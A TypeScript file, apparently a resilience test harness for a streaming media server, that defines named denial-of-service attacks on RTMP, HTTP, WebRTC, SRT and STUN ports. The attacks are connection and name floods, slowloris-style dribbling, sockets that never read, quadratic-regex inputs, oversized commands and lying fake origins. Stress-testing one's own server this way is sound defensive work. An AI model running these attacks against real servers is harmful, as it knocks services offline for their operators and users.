import { randomBytes } from 'node:crypto';
import { encodeMessage } from '../../../src/protocol/rtmp/chunk-writer.js';
import { encodeCommand } from '../../../src/protocol/rtmp/command.js';
import { afterHandshake, openingBytes, openingOf } from '../rtmp-bytes.js';
import { offerText } from '../sdp.js';
import { PUBLISH } from '../srt-bytes.js';
import { changed } from '../srt-caller.js';
import { stunRequest } from '../stun.js';
import type { Attacker, Target } from './attacker.js';
import { serveAsOrigin } from './fake-origin.js';

/** Resolves when the attack is over. */
export type Attack = (attacker: Attacker, target: Target) => Promise<void>;

/** Milliseconds for which a client of an unpublished stream stays. */
const STAYS = { holdMs: 4000 };
const NEVER_READS = { reads: false };
const CONNECTIONS = 1000;

const name = (index: number) => `n${index}-${randomBytes(4).toString('hex')}`;

function get(path: string): string {
  return `GET ${path} HTTP/1.1\r\nHost: box\r\n\r\n`;
}

function offer(way: 'whip' | 'whep', stream: string, sdp: string): string {
  const head = [
    `POST /rtc/v1/${way}/?app=live&stream=${stream} HTTP/1.1`,
    'Host: box',
    'Content-Type: application/sdp',
    `Content-Length: ${sdp.length}`,
    'Connection: close',
  ];
  return `${head.join('\r\n')}\r\n\r\n${sdp}`;
}

function publishing(port: number, stream: string): Buffer {
  const tcUrl = `rtmp://127.0.0.1:${port}/live`;
  return openingOf('OBS publishes', { tcUrl, app: 'live', stream });
}

/** 256 KB of `connect` commands on one connection. */
function connects(): Buffer {
  const object = { tcUrl: 'rtmp://h/a' };
  const command = encodeCommand(
    { name: 'connect', transactionId: 1, object, args: [] },
    { csid: 3, streamId: 0 },
  );
  const one = encodeMessage(command, 128);
  return afterHandshake(Buffer.concat(Array(Math.floor(2 ** 18 / one.length)).fill(one)));
}

/** A URL and a name that a careless pattern reads in quadratic time. */
function signs(): Buffer {
  const tcUrl = `rtmp://h/a${'#'.repeat(2030)}`;
  return openingOf('ffmpeg plays', { tcUrl, app: 'a', stream: `${'#'.repeat(2040)} ` });
}

/** 64 KB of the shortest lines. */
function shortLines(): string {
  const head = `v=0\r\na=ice-ufrag:abcd\r\na=ice-pwd:${'p'.repeat(22)}\r\na=group:BUNDLE 0\r\n`;
  return head + 'a=\n'.repeat(Math.floor((2 ** 16 - head.length) / 3));
}

/** Many connections that send a byte per second. */
async function dribble(attacker: Attacker, port: number, text: string): Promise<void> {
  const sockets = Array.from({ length: CONNECTIONS }, () => attacker.open(port, text[0] ?? ''));
  await attacker.pace(1, (second) => {
    for (const socket of sockets) if (socket.writable) socket.write(text[second + 1] ?? 'a');
  });
}

const HALF_A_HEAD = `${get('/live/x.flv').trimEnd()}\r\nX-A: `;

/** Attacks on a box, by name. Each uses one address and a rate that one machine can produce. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  'names RTMP play': (by, { ports: { rtmp } }) =>
    by.pace(200, (i) => by.open(rtmp, openingBytes(rtmp, name(i)), STAYS)),
  'names RTMP publish': (by, { ports: { rtmp } }) =>
    by.pace(200, (i) => by.open(rtmp, publishing(rtmp, name(i)), STAYS)),
  'names FLV': (by, { ports }) =>
    by.pace(400, (i) => by.open(ports.http, get(`/live/${name(i)}.flv`), STAYS)),
  'names HLS': (by, { ports }) =>
    by.pace(400, (i) => by.open(ports.http, get(`/live/${name(i)}.m3u8`), STAYS)),
  'names WHIP': (by, { ports }) =>
    by.pace(200, (i) => by.open(ports.api, offer('whip', name(i), offerText('sendonly')), STAYS)),
  'names WHEP': (by, { ports }) =>
    by.pace(200, (i) => by.open(ports.api, offer('whep', name(i), offerText('recvonly')), STAYS)),
  'names API': (by, { ports }) =>
    by.pace(400, (i) => by.open(ports.api, get(`/api/v1/clients/${name(i)}`), STAYS)),
  'byte a second RTMP': (by, { ports }) => dribble(by, ports.rtmp, '\x03'),
  'byte a second HTTP': (by, { ports }) => dribble(by, ports.http, HALF_A_HEAD),
  'byte a second API': (by, { ports }) => dribble(by, ports.api, HALF_A_HEAD),
  'silent admin': async (by, { ports }) => {
    for (let i = 0; i < CONNECTIONS; i += 1) by.open(ports.admin, '');
    await by.over;
  },
  'silent ICE by TCP': async (by, { ports }) => {
    for (let i = 0; i < CONNECTIONS; i += 1) by.open(ports.rtc, '');
    await by.over;
  },
  'pipelined GETs': async (by, { ports }) => {
    const many = get('/api/v1/summaries').repeat(5000);
    for (let i = 0; i < 20; i += 1) by.open(ports.api, many, NEVER_READS);
    await by.over;
  },
  'never reads': async (by, { ports, file, stream }) => {
    const paths = [file, `/${stream}.flv`];
    for (let i = 0; i < 300; i += 1) by.open(ports.http, get(paths[i % 2] ?? ''), NEVER_READS);
    await by.over;
  },
  descriptors: async (by, { ports: { http, rtmp }, file }) => {
    for (let i = 0; i < 300; i += 1) by.open(http, get(file), NEVER_READS);
    await by.pace(100, () => by.open(rtmp, Buffer.concat([Buffer.of(3), randomBytes(1536)])));
  },
  'connect again': (by, { ports }) => {
    const bytes = connects();
    return by.pace(1, () => by.open(ports.rtmp, bytes, NEVER_READS));
  },
  'URL of signs': (by, { ports }) => {
    const bytes = signs();
    return by.pace(20, () => by.open(ports.rtmp, bytes, { holdMs: 1500 }));
  },
  'SDP of short lines': (by, { ports }) => {
    const bytes = offer('whep', 'x', shortLines());
    return by.pace(2, () => by.open(ports.api, bytes));
  },
  'origins that lie': async (by, target) => {
    const origins = [
      await serveAsOrigin(by.from, { kind: 'huge' }),
      await serveAsOrigin(by.from, { kind: 'dribbles' }),
      await serveAsOrigin(by.from, { kind: 'claims', stream: target.stream }),
    ];
    await by.pace(1, () => {
      for (const { beat } of origins) by.open(target.ports.admin, beat);
    });
    for (const { close } of origins) close();
  },
  'SRT inductions': async (by, { ports }) => {
    const send = await by.udp();
    await by.pace(5000, (i) => send(ports.srt, changed(PUBLISH.induction, { id: i + 1 })));
  },
  'SRT conclusions': async (by, { ports }) => {
    const send = await by.udp();
    await by.pace(5000, (i) => send(ports.srt, changed(PUBLISH.conclusion, { id: i + 1 })));
  },
  'STUN checks': async (by, { ports }) => {
    const send = await by.udp();
    const check = (i: number) => ({ username: `S${name(i).padEnd(22, 'x')}:abcd`, password: 'p' });
    await by.pace(5000, (i) => send(ports.rtc, stunRequest(check(i))));
  },
};
